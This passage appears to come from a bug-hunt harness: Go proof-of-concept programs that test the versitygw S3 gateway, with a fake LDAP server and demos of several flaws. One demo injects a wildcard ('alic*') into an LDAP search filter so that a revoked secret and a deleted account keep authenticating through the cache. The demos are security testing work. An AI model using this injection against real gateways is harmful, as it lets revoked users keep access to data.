	s := &fakeLDAP{entries: map[string]*ldapEntry{}, ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go s.serve(c)
		}
	}()
	return s
}

func (s *fakeLDAP) url() string { return "ldap://" + s.ln.Addr().String() }

// result builds LDAPMessage{id, [APPLICATION app] LDAPResult{code, "", ""}}
func result(id int64, app byte, code int64) []byte {
	return enc(0, true, 16, cat(encInt(2, id),
		enc(1, true, app, cat(encInt(10, code), encStr(""), encStr("")))))
}

func (s *fakeLDAP) match(e *ldapEntry, f *tlv) bool {
	switch f.tag {
	case 0: // and
		for _, c := range f.children {
			if !s.match(e, c) {
				return false
			}
		}
		return true
	case 1: // or
		for _, c := range f.children {
			if s.match(e, c) {
				return true
			}
		}
		return false
	case 2: // not
		return !s.match(e, f.children[0])
	case 3: // equalityMatch
		attr, val := strings.ToLower(string(f.children[0].data)), string(f.children[1].data)
		for _, v := range e.attrs[attr] {
			if v == val {
				return true
			}
		}
		return false
	case 4: // substrings
		attr := strings.ToLower(string(f.children[0].data))
		for _, v := range e.attrs[attr] {
			rest, ok := v, true
			for _, sub := range f.children[1].children {
				x := string(sub.data)
				switch sub.tag {
				case 0: // initial
					if !strings.HasPrefix(rest, x) {
						ok = false
					} else {
						rest = rest[len(x):]
					}
				case 1: // any
					i := strings.Index(rest, x)
					if i < 0 {
						ok = false
					} else {
						rest = rest[i+len(x):]
					}
				case 2: // final
					if !strings.HasSuffix(rest, x) {
						ok = false
					}
				}
			}
			if ok {
				return true
			}
		}
		return false
	case 7: // present
		_, ok := e.attrs[strings.ToLower(string(f.data))]
		return ok
	}
	return false
}

func (s *fakeLDAP) serve(c net.Conn) {
	defer c.Close()
	r := bufio.NewReader(c)
	for {
		p, err := readMessage(r)
		if err != nil || len(p.children) < 2 {
			return
		}
		id := intOf(p.children[0])
		op := p.children[1]
		var out [][]byte
		s.mu.Lock()
		switch op.tag {
		case 0: // bind
			out = append(out, result(id, 1, 0))
		case 2: // unbind
			s.mu.Unlock()
			return
		case 3: // search
			base := normDN(string(op.children[0].data))
			filter := op.children[6]
			for _, k := range s.order {
				e := s.entries[k]
				if e == nil || !strings.HasSuffix(k, base) || !s.match(e, filter) {
					continue
				}
				var attrs []byte
				for _, want := range op.children[7].children {
					name := string(want.data)
					vals, ok := e.attrs[strings.ToLower(name)]
					if !ok {
						continue
					}
					var set []byte
					for _, v := range vals {
						set = append(set, encStr(v)...)
					}
					attrs = append(attrs, enc(0, true, 16, cat(encStr(name), enc(0, true, 17, set)))...)
				}
				out = append(out, enc(0, true, 16, cat(encInt(2, id),
					enc(1, true, 4, cat(encStr(e.dn), enc(0, true, 16, attrs))))))
			}
			out = append(out, result(id, 5, 0))
		case 8: // add
			dn := string(op.children[0].data)
			k := normDN(dn)
			if s.entries[k] != nil {
				out = append(out, result(id, 9, 68)) // entryAlreadyExists
				break
			}
			e := &ldapEntry{dn: dn, attrs: map[string][]string{}}
			for _, a := range op.children[1].children {
				name := strings.ToLower(string(a.children[0].data))
				for _, v := range a.children[1].children {
					e.attrs[name] = append(e.attrs[name], string(v.data))
				}
			}
			s.entries[k] = e
			s.order = append(s.order, k)
			out = append(out, result(id, 9, 0))
		case 6: // modify (replace only)
			e := s.entries[normDN(string(op.children[0].data))]
			if e == nil {
				out = append(out, result(id, 7, 32)) // noSuchObject
				break
			}
			for _, ch := range op.children[1].children {
				mod := ch.children[1]
				name := strings.ToLower(string(mod.children[0].data))
				var vals []string
				for _, v := range mod.children[1].children {
					vals = append(vals, string(v.data))
				}
				e.attrs[name] = vals
			}
			out = append(out, result(id, 7, 0))
		case 10: // delete
			k := normDN(string(op.data))
			if s.entries[k] == nil {
				out = append(out, result(id, 11, 32))
				break
			}
			delete(s.entries, k)
			out = append(out, result(id, 11, 0))
		default:
			out = append(out, result(id, 24, 2)) // protocolError
		}
		s.mu.Unlock()
		for _, m := range out {
			if _, err := c.Write(m); err != nil {
				return
			}
		}
	}
}
