//go:build huntdemo

// C17 hunt 1: LDAP IAM service behind the (default) account cache.
//
// LdapIAMService.GetUserAccount pastes the access key of the request into
// the search filter and returns whatever entry the directory matches, so a
// request that names the access key "alic*" is answered with the account
// "alice". IAMCache stores that account under the spelling the request used.
// update-user / delete-user on "alice" refresh / drop the cache entry "alice"
// only: the entry "alic*" keeps the old secret, and the replaced secret and
// the deleted account keep authenticating until the entry expires.
package main

import (
	"fmt"
	"os"
	"strings"

	"github.com/versity/versitygw/auth"
)

func ldapOpts(url string, cacheDisable bool) *auth.Opts {
	return &auth.Opts{
		LDAPServerURL:  url,
		LDAPBindDN:     "cn=admin,dc=example,dc=com",
		LDAPPassword:   "adminpw",
		LDAPQueryBase:  "ou=iam,dc=example,dc=com",
		LDAPObjClasses: "inetOrgPerson",
		LDAPAccessAtr:  "uid",
		LDAPSecretAtr:  "userPassword",
		LDAPRoleAtr:    "title",
		LDAPUserIdAtr:  "uidNumber",
		LDAPGroupIdAtr: "gidNumber",
		CacheDisable:   cacheDisable,
		CacheTTL:       120,  // default of --iam-cache-ttl
		CachePrune:     3600, // default of --iam-cache-prune
	}
}

// scenario returns the status of: (1) the request with the replaced secret
// after update-user was acknowledged, (2) the request of the deleted account
// after delete-user was acknowledged
func scenario(cacheDisable bool) (afterUpdate, afterDelete int, fail string) {
	dir := startFakeLDAP()
	g := startGW(ldapOpts(dir.url(), cacheDisable))
	defer g.stop()

	if c, b := g.admin("/create-user", accXML("alice", "secret1", "user", 1001, 1001)); c != 201 {
		return 0, 0, fmt.Sprintf("create-user: %v %v", c, b)
	}
	// the account's owner (or anybody who knows its secret) names the
	// access key with a wildcard once
	if c, b := g.do("GET", "/", nil, "alic*", "secret1"); c != 200 {
		return 0, 0, fmt.Sprintf("request as alic*: %v %v", c, b)
	}
	if c, b := g.admin("/update-user?access=alice", "<MutableProps><Secret>secret2</Secret></MutableProps>"); c != 200 {
		return 0, 0, fmt.Sprintf("update-user: %v %v", c, b)
	}
	// sanity: new secret works, old secret under the real name is refused
	if c, b := g.do("GET", "/", nil, "alice", "secret2"); c != 200 {
		return 0, 0, fmt.Sprintf("new secret: %v %v", c, b)
	}
	if c, b := g.do("GET", "/", nil, "alice", "secret1"); c != 403 {
		return 0, 0, fmt.Sprintf("old secret as alice: %v %v", c, b)
	}
	afterUpdate, _ = g.do("GET", "/", nil, "alic*", "secret1")

	if c, b := g.admin("/delete-user?access=alice", ""); c != 200 {
		return 0, 0, fmt.Sprintf("delete-user: %v %v", c, b)
	}
	if c, b := g.admin("/list-users", ""); c != 200 || strings.Contains(b, "alice") {
		return 0, 0, fmt.Sprintf("list-users after delete: %v %v", c, b)
	}
	if c, b := g.do("GET", "/", nil, "alice", "secret2"); c != 403 {
		return 0, 0, fmt.Sprintf("deleted account as alice: %v %v", c, b)
	}
	afterDelete, _ = g.do("GET", "/", nil, "alic*", "secret1")
	return afterUpdate, afterDelete, ""
}

func main() {
	u0, d0, fail := scenario(true)
	if fail != "" {
		fmt.Println("setup failed (cache off):", fail)
		os.Exit(2)
	}
	u1, d1, fail := scenario(false)
	if fail != "" {
		fmt.Println("setup failed (cache on):", fail)
		os.Exit(2)
	}
	fmt.Printf("cache off: replaced secret after update-user -> %d, deleted account after delete-user -> %d\n", u0, d0)
	fmt.Printf("cache on : replaced secret after update-user -> %d, deleted account after delete-user -> %d\n", u1, d1)
	if u1 == 200 || d1 == 200 {
		fmt.Println("VIOLATION C17: LDAP IAM + account cache: after update-user and delete-user of \"alice\" were acknowledged, requests naming the access key \"alic*\" still authenticate with the replaced secret / as the deleted account (cache entry kept under the request's spelling)")
		os.Exit(1)
	}
	fmt.Println("OK: replaced secret and deleted account are refused")
}
