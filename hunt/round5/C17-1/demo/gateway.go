//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
	"github.com/versity/versitygw/s3event"
	"github.com/versity/versitygw/s3log"
)

const (
	rootAccess = "rootaccess"
	rootSecret = "rootsecret"
	region     = "us-east-1"
)

type gw struct {
	url string
	app *fiber.App
	dir string
}

// startGW runs the gateway in process the way cmd/versitygw does: posix
// backend, auth.New for the IAM service, s3api.New with the admin routes on
// the S3 port.
func startGW(iamOpts *auth.Opts) *gw {
	dir, err := os.MkdirTemp("/dev/shm", "c17hunt1-")
	if err != nil {
		panic(err)
	}
	be, err := posix.New(dir, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		panic(err)
	}
	iamOpts.RootAccount = auth.Account{Access: rootAccess, Secret: rootSecret, Role: auth.RoleAdmin}
	iam, err := auth.New(iamOpts)
	if err != nil {
		panic(err)
	}
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	addr := l.Addr().String()
	l.Close()
	var evs s3event.S3EventSender
	var lg s3log.AuditLogger
	srv, err := s3api.New(app, be, middlewares.RootUserConfig{Access: rootAccess, Secret: rootSecret},
		addr, region, iam, lg, lg, evs, nil, s3api.WithQuiet(), s3api.WithAdminServer())
	if err != nil {
		panic(err)
	}
	go srv.Serve()
	for i := 0; i < 500; i++ {
		c, err := net.Dial("tcp", addr)
		if err == nil {
			c.Close()
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	return &gw{url: "http://" + addr, app: app, dir: dir}
}

func (g *gw) stop() {
	g.app.Shutdown()
	os.RemoveAll(g.dir)
}

// do sends a SigV4 signed request and returns status and body
func (g *gw) do(method, pathq string, body []byte, access, secret string) (int, string) {
	req, err := http.NewRequest(method, g.url+pathq, bytes.NewReader(body))
	if err != nil {
		panic(err)
	}
	h := sha256.Sum256(body)
	hexp := hex.EncodeToString(h[:])
	req.Header.Set("X-Amz-Content-Sha256", hexp)
	err = v4.NewSigner().SignHTTP(context.Background(),
		aws.Credentials{AccessKeyID: access, SecretAccessKey: secret}, req, hexp, "s3", region, time.Now())
	if err != nil {
		panic(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return -1, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func (g *gw) admin(pathq string, body string) (int, string) {
	return g.do(http.MethodPatch, pathq, []byte(body), rootAccess, rootSecret)
}

func accXML(access, secret, role string, uid, gid int) string {
	return fmt.Sprintf("<Account><Access>%s</Access><Secret>%s</Secret><Role>%s</Role><UserID>%d</UserID><GroupID>%d</GroupID></Account>",
		access, secret, role, uid, gid)
}
