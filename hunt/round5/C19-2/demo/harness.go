//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
	"github.com/versity/versitygw/s3event"
)

const (
	rootAccess = "rootaccess"
	rootSecret = "rootsecret"
	region     = "us-east-1"
)

type event struct {
	Name      string
	Bucket    string
	Arn       string
	Key       string
	Size      int64
	ETag      *string
	VersionId *string
	Principal string
	Raw       string
}

type collector struct {
	mu  sync.Mutex
	evs []event
}

func (c *collector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	var doc struct {
		Records []struct {
			EventName    string `json:"eventName"`
			UserIdentity struct {
				PrincipalId string `json:"PrincipalId"`
			} `json:"userIdentity"`
			S3 struct {
				Bucket struct {
					Name string `json:"name"`
					Arn  string `json:"arn"`
				} `json:"bucket"`
				Object struct {
					Key       string  `json:"key"`
					Size      int64   `json:"size"`
					ETag      *string `json:"eTag"`
					VersionId *string `json:"versionId"`
				} `json:"object"`
			} `json:"s3"`
		}
	}
	if json.Unmarshal(b, &doc) == nil {
		c.mu.Lock()
		for _, r := range doc.Records {
			c.evs = append(c.evs, event{
				Name: r.EventName, Bucket: r.S3.Bucket.Name, Arn: r.S3.Bucket.Arn,
				Key: r.S3.Object.Key, Size: r.S3.Object.Size, ETag: r.S3.Object.ETag,
				VersionId: r.S3.Object.VersionId, Principal: r.UserIdentity.PrincipalId, Raw: string(b),
			})
		}
		c.mu.Unlock()
	}
	w.WriteHeader(200)
}

// take waits until no new event has arrived for a while and returns (and
// clears) what was collected
func (c *collector) take() []event {
	last := -1
	for i := 0; i < 50; i++ {
		time.Sleep(100 * time.Millisecond)
		c.mu.Lock()
		n := len(c.evs)
		c.mu.Unlock()
		if n == last && i >= 4 {
			break
		}
		last = n
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	r := c.evs
	c.evs = nil
	return r
}

func freeAddr() string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	defer l.Close()
	return l.Addr().String()
}

type gw struct {
	addr string
	col  *collector
	be   backend.Backend
	dir  string
}

type gwOpts struct {
	versioning bool
	sidecar    bool
	noTmp      bool
	filterFile string
	readonly   bool
}

func startGW(o gwOpts) *gw {
	dir, err := os.MkdirTemp("/dev/shm", "c19hunt-")
	if err != nil {
		panic(err)
	}
	root := dir + "/root"
	os.MkdirAll(root, 0755)
	po := posix.PosixOpts{NewDirPerm: 0755, ForceNoTmpFile: o.noTmp}
	if o.versioning {
		po.VersioningDir = dir + "/versions"
		os.MkdirAll(po.VersioningDir, 0755)
	}
	var ms meta.MetadataStorer = meta.XattrMeta{}
	if o.sidecar {
		sc := dir + "/sidecar"
		os.MkdirAll(sc, 0755)
		po.SideCarDir = sc
		s, err := meta.NewSideCar(sc)
		if err != nil {
			panic(err)
		}
		ms = s
	}
	be, err := posix.New(root, ms, po)
	if err != nil {
		panic(err)
	}

	col := &collector{}
	whAddr := freeAddr()
	go http.ListenAndServe(whAddr, col)
	time.Sleep(100 * time.Millisecond)

	evs, err := s3event.InitEventSender(&s3event.EventConfig{
		WebhookURL:           "http://" + whAddr + "/",
		FilterConfigFilePath: o.filterFile,
	})
	if err != nil {
		panic(err)
	}

	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	iam, err := auth.New(&auth.Opts{RootAccount: auth.Account{Access: rootAccess, Secret: rootSecret, Role: auth.RoleAdmin}})
	if err != nil {
		panic(err)
	}
	addr := freeAddr()
	opts := []s3api.Option{s3api.WithQuiet()}
	if o.readonly {
		opts = append(opts, s3api.WithReadOnly())
	}
	srv, err := s3api.New(app, be, middlewares.RootUserConfig{Access: rootAccess, Secret: rootSecret},
		addr, region, iam, nil, nil, evs, nil, opts...)
	if err != nil {
		panic(err)
	}
	go srv.Serve()
	for i := 0; i < 100; i++ {
		c, err := net.Dial("tcp", addr)
		if err == nil {
			c.Close()
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	return &gw{addr: addr, col: col, be: be, dir: dir}
}

func (g *gw) cleanup() { os.RemoveAll(g.dir) }

type resp struct {
	Status int
	Body   string
	Hdr    http.Header
}

// do sends a SigV4 signed request. rawPath is sent as is (already escaped).
func (g *gw) do(method, rawPath, rawQuery string, hdr map[string]string, body []byte) resp {
	u := &url.URL{Scheme: "http", Host: g.addr, Opaque: "//" + g.addr + rawPath, RawQuery: rawQuery}
	req, err := http.NewRequest(method, u.String(), bytes.NewReader(body))
	if err != nil {
		panic(err)
	}
	req.URL = u
	sum := sha256.Sum256(body)
	hexsum := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hexsum)
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	req.ContentLength = int64(len(body))
	signer := v4.NewSigner(func(o *v4.SignerOptions) { o.DisableURIPathEscaping = true })
	err = signer.SignHTTP(context.Background(), aws.Credentials{AccessKeyID: rootAccess, SecretAccessKey: rootSecret},
		req, hexsum, "s3", region, time.Now())
	if err != nil {
		panic(err)
	}
	res, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		return resp{Status: -1, Body: err.Error()}
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return resp{Status: res.StatusCode, Body: string(b), Hdr: res.Header}
}

func s(p *string) string {
	if p == nil {
		return "<nil>"
	}
	return *p
}

func show(tag string, evs []event) {
	fmt.Printf("-- %s: %d event(s)\n", tag, len(evs))
	for _, e := range evs {
		fmt.Printf("   %s bucket=%q key=%q size=%d etag=%s version=%s arn=%q principal=%q\n", e.Name, e.Bucket, e.Key, e.Size, s(e.ETag), s(e.VersionId), e.Arn, e.Principal)
	}
}
