//go:build huntdemo

// C19 hunt 2: the bucket ARN of every notification is built from the whole
// request path: it starts with a "/" and, for single object requests, carries
// the object key, so no notification names the bucket it is about.
package main

import (
	"fmt"
	"os"
	"regexp"
	"sort"
)

func main() {
	g := startGW(gwOpts{})
	code := run(g)
	g.cleanup()
	os.Exit(code)
}

func run(g *gw) int {
	must := func(r resp, want int, what string) resp {
		if r.Status != want {
			fmt.Printf("setup: %s: status %d, want %d: %s\n", what, r.Status, want, r.Body)
			g.cleanup()
			os.Exit(2)
		}
		return r
	}
	must(g.do("PUT", "/photos", "", nil, nil), 200, "create bucket")
	g.col.take()

	const wantArn = "arn:aws:s3:::photos"
	bad := 0
	total := 0
	check := func(req string) {
		evs := g.col.take()
		sort.Slice(evs, func(i, j int) bool { return evs[i].Key < evs[j].Key })
		for _, e := range evs {
			total++
			verdict := "ok"
			if e.Arn != wantArn {
				verdict = "WRONG"
				bad++
			}
			fmt.Printf("%-58s %-32s key=%-18q s3.bucket.name=%q s3.bucket.arn=%q %s\n", req, e.Name, e.Key, e.Bucket, e.Arn, verdict)
		}
	}

	must(g.do("PUT", "/photos/2026/cat.jpg", "", nil, []byte("meow")), 200, "put")
	check("PUT /photos/2026/cat.jpg")

	must(g.do("PUT", "/photos/2026/copy.jpg", "", map[string]string{"X-Amz-Copy-Source": "photos/2026/cat.jpg"}, nil), 200, "copy")
	check("PUT /photos/2026/copy.jpg (x-amz-copy-source)")

	must(g.do("PUT", "/photos/2026/cat.jpg", "tagging", nil,
		[]byte(`<Tagging><TagSet><Tag><Key>k</Key><Value>v</Value></Tag></TagSet></Tagging>`)), 200, "put tagging")
	check("PUT /photos/2026/cat.jpg?tagging")

	must(g.do("DELETE", "/photos/2026/cat.jpg", "tagging", nil, nil), 204, "delete tagging")
	check("DELETE /photos/2026/cat.jpg?tagging")

	r := must(g.do("POST", "/photos/big.bin", "uploads", nil, nil), 200, "create mpu")
	id := regexp.MustCompile(`<UploadId>([^<]+)</UploadId>`).FindStringSubmatch(r.Body)[1]
	r = must(g.do("PUT", "/photos/big.bin", "partNumber=1&uploadId="+id, nil, []byte("part one")), 200, "upload part")
	etag := r.Hdr.Get("Etag")
	must(g.do("POST", "/photos/big.bin", "uploadId="+id, nil,
		[]byte(`<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>`+etag+`</ETag></Part></CompleteMultipartUpload>`)), 200, "complete mpu")
	check("POST /photos/big.bin?uploadId=...")

	must(g.do("DELETE", "/photos/2026/copy.jpg", "", nil, nil), 204, "delete")
	check("DELETE /photos/2026/copy.jpg")

	must(g.do("POST", "/photos", "delete", nil,
		[]byte(`<Delete><Object><Key>2026/cat.jpg</Key></Object><Object><Key>big.bin</Key></Object></Delete>`)), 200, "batch delete")
	check("POST /photos?delete (2026/cat.jpg, big.bin)")

	if bad > 0 {
		fmt.Printf("VIOLATION: %d of %d notifications name a bucket ARN other than %q (the request path, with the object key, is used as the bucket resource)\n", bad, total, wantArn)
		return 1
	}
	fmt.Printf("OK: all %d notifications carry the bucket ARN %q\n", total, wantArn)
	return 0
}
