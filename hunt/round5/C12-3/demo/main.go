//go:build huntdemo

// C12 finding 3: the verdict of the signed aws-chunked reader on one and the
// same byte stream depends on how the stream is split into reads. A chunk
// header longer than maxHeaderSize (1024; here: a chunk size written with
// leading zeros) is accepted when it arrives in one read or when the part
// that arrives first is at most 1024 bytes long, and refused ("invalid chunk
// header format") when the part that arrives first is longer: the limit is
// applied to the stash of an incomplete header, not to the header.
package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api/utils"
)

const zeros = 1100

// cutReader delivers data in two reads: [0,cut) and [cut,len)
type cutReader struct {
	data []byte
	cut  int
	pos  int
}

func (c *cutReader) Read(p []byte) (int, error) {
	if c.pos >= len(c.data) {
		return 0, io.EOF
	}
	end := len(c.data)
	if c.pos < c.cut {
		end = c.cut
	}
	n := copy(p, c.data[c.pos:end])
	c.pos += n
	return n, nil
}

func main() {
	os.Exit(run())
}

func run() int {
	payload := []byte("0123456789abcdefghijklmnopqrstuvwxyz")
	sizes := []int{20, 16}
	pad := []byte(strings.Repeat("0", zeros))

	// 1. the exported reader, no network involved
	date := time.Now().UTC()
	seed := strings.Repeat("ab", 32)
	stream := append(append([]byte{}, pad...), signedBody(seed, date, payload, sizes, false)...)
	verdicts := map[string]int{}
	fmt.Printf("stream: %d bytes, first chunk header = %d zeros + \"14;chunk-signature=<64 hex>\\r\\n\"\n", len(stream), zeros)
	decode := func(cut, bufSize int) string {
		rd, err := utils.NewSignedChunkReader(&cutReader{data: stream, cut: cut}, utils.AuthData{Signature: seed}, region, secret, date, "", false)
		if err != nil {
			panic(err)
		}
		var out []byte
		buf := make([]byte, bufSize)
		for err == nil {
			var n int
			n, err = rd.Read(buf)
			out = append(out, buf[:n]...)
		}
		v := "REFUSED (" + fmt.Sprint(err) + ")"
		if err == io.EOF && bytes.Equal(out, payload) {
			v = "ACCEPTED, decoded == payload"
		}
		verdicts[v]++
		return v
	}
	for _, cut := range []int{0, 1, 500, 1024, 1025, 1030, zeros + 40} {
		fmt.Printf("reader   source split at offset %-5d destination buffer 32768 -> %s\n", cut, decode(cut, 32768))
	}
	for _, bs := range []int{4096, 512, 350, 150} {
		fmt.Printf("reader   source not split            destination buffer %-5d -> %s\n", bs, decode(0, bs))
	}

	// 2. end to end: the split is chosen by the HTTP framing of the request
	dir, err := os.MkdirTemp("/dev/shm", "hunt-c12-3-")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(dir)
	be, err := posix.New(dir, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		panic(err)
	}
	gw := startGateway(be)
	time.Sleep(100 * time.Millisecond)
	if st, b, err := do(gw, request{method: "PUT", path: "/bkt", payloadHash: emptySHA}); err != nil || st != 200 {
		fmt.Println("setup: create bucket:", st, string(b), err)
		return 2
	}
	e2e := map[bool]int{}
	put := func(key string, padding []byte, cuts []int, how string) bool {
		hdr := map[string]string{"Content-Encoding": "aws-chunked", "X-Amz-Decoded-Content-Length": strconv.Itoa(len(payload))}
		st, _, err := do(gw, request{method: "PUT", path: "/bkt/" + key, headers: hdr, payloadHash: "STREAMING-AWS4-HMAC-SHA256-PAYLOAD",
			bodyLen: len(padding) + signedBodyLen(sizes, false), httpCuts: cuts,
			bodyFn: func(seed string, date time.Time) []byte {
				return append(append([]byte{}, padding...), signedBody(seed, date, payload, sizes, false)...)
			}})
		gst, gb, _ := do(gw, request{method: "GET", path: "/bkt/" + key, payloadHash: emptySHA})
		ok := err == nil && st == 200 && gst == 200 && bytes.Equal(gb, payload)
		fmt.Printf("gateway  PUT %-12s zero padding %-4d %-44s -> PUT %d (err=%v), GET %d, stored==payload: %v\n", key, len(padding), how, st, err, gst, ok)
		return ok
	}
	// controls without padding: both framings are fine
	if !put("plain-a", nil, []int{}, "one HTTP chunk") || !put("plain-b", nil, []int{30}, "HTTP chunks cut at offset 30") {
		fmt.Println("setup: control failed")
		return 2
	}
	e2e[put("padded-a", pad, nil, "Content-Length framing")]++
	e2e[put("padded-b", pad, []int{}, "one HTTP chunk")]++
	e2e[put("padded-c", pad, []int{500}, "HTTP chunks cut at offset 500")]++
	e2e[put("padded-d", pad, []int{1030}, "HTTP chunks cut at offset 1030")]++

	if len(verdicts) > 1 || (e2e[true] > 0 && e2e[false] > 0) {
		fmt.Printf("VIOLATION: the same signed aws-chunked byte stream is accepted or refused depending only on where the reads are split (reader: %d different verdicts; gateway: %d accepted, %d refused): if the stream is legal it must always decode to the payload, if it is malformed it must always be refused\n", len(verdicts), e2e[true], e2e[false])
		return 1
	}
	fmt.Println("OK: the verdict does not depend on the split")
	return 0
}
