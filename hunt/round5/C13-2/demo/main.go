//go:build huntdemo

// C13 hunt 2: explicitly signed numbers in a Range header ("bytes=+2-+5",
// "bytes=+0-", "bytes=2-+5") are not a byte-range-spec (first-pos / last-pos
// are 1*DIGIT), so the header is malformed and the property demands 200 with
// the entire object. The gateway applies them: 206 with a partial body.
package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
	"github.com/versity/versitygw/s3err"
)

const (
	ak = "AKIDROOT"
	sk = "SECRETROOT"
)

var base string

func do(method, path string, hdr map[string]string, body []byte) (int, http.Header, []byte) {
	req, err := http.NewRequest(method, base+path, bytes.NewReader(body))
	if err != nil {
		fatal(err)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	sum := sha256.Sum256(body)
	hs := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hs)
	err = v4.NewSigner().SignHTTP(context.Background(),
		aws.Credentials{AccessKeyID: ak, SecretAccessKey: sk}, req, hs, "s3", "us-east-1", time.Now())
	if err != nil {
		fatal(err)
	}
	tr := &http.Transport{DisableCompression: true, DisableKeepAlives: true}
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		fatal(err)
	}
	return resp.StatusCode, resp.Header, b
}

func fatal(err error) {
	fmt.Println("SETUP ERROR:", err)
	os.Exit(2)
}

func main() {
	os.Exit(run())
}

func run() int {
	dir, err := os.MkdirTemp("/dev/shm", "c13hunt2-")
	if err != nil {
		fatal(err)
	}
	defer os.RemoveAll(dir)

	be, err := posix.New(dir, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		fatal(err)
	}
	app := fiber.New(fiber.Config{StreamRequestBody: true, DisableStartupMessage: true, DisableKeepalive: true})
	root := middlewares.RootUserConfig{Access: ak, Secret: sk}
	iam := auth.NewIAMServiceSingle(auth.Account{Access: ak, Secret: sk, Role: auth.RoleAdmin})
	if _, err = s3api.New(app, be, root, ":0", "us-east-1", iam, nil, nil, nil, nil, s3api.WithQuiet()); err != nil {
		fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fatal(err)
	}
	go app.Listener(ln)
	defer app.Shutdown()
	base = "http://" + ln.Addr().String()

	if st, _, b := do("PUT", "/bkt", nil, nil); st != 200 {
		fatal(fmt.Errorf("create bucket: %d %s", st, b))
	}
	data := []byte("0123456789")
	if st, _, b := do("PUT", "/bkt/obj", nil, data); st != 200 {
		fatal(fmt.Errorf("put: %d %s", st, b))
	}

	var bad []string
	for _, rng := range []string{"bytes=2-5", "bytes=+2-+5", "bytes=2-+5", "bytes=+2-5", "bytes=+0-", "bytes=+9-+99"} {
		st, h, body := do("GET", "/bkt/obj", map[string]string{"Range": rng}, nil)
		var ok bool
		if rng == "bytes=2-5" {
			// control: the well-formed spelling
			ok = st == 206 && string(body) == "2345" && h.Get("Content-Range") == "bytes 2-5/10"
		} else {
			ok = st == 200 && bytes.Equal(body, data) && h.Get("Content-Range") == ""
		}
		fmt.Printf("GET obj (len 10) Range %-14q -> %d Content-Range=%q Content-Length=%s body=%q  %s\n",
			rng, st, h.Get("Content-Range"), h.Get("Content-Length"), body, verdict(ok))
		if !ok {
			bad = append(bad, fmt.Sprintf("%q->%d %q", rng, st, body))
		}
	}

	for _, rng := range []string{"bytes=+2-+5", "bytes=+0-"} {
		start, length, valid, err := backend.ParseGetObjectRange(10, rng)
		ok := err == nil && !valid && start == 0 && length == 10
		fmt.Printf("ParseGetObjectRange(10, %q) = start %d, length %d, valid %v, err %s  %s\n",
			rng, start, length, valid, errCode(err), verdict(ok))
		if !ok {
			bad = append(bad, fmt.Sprintf("ParseGetObjectRange(10,%q) valid=%v", rng, valid))
		}
	}

	if len(bad) > 0 {
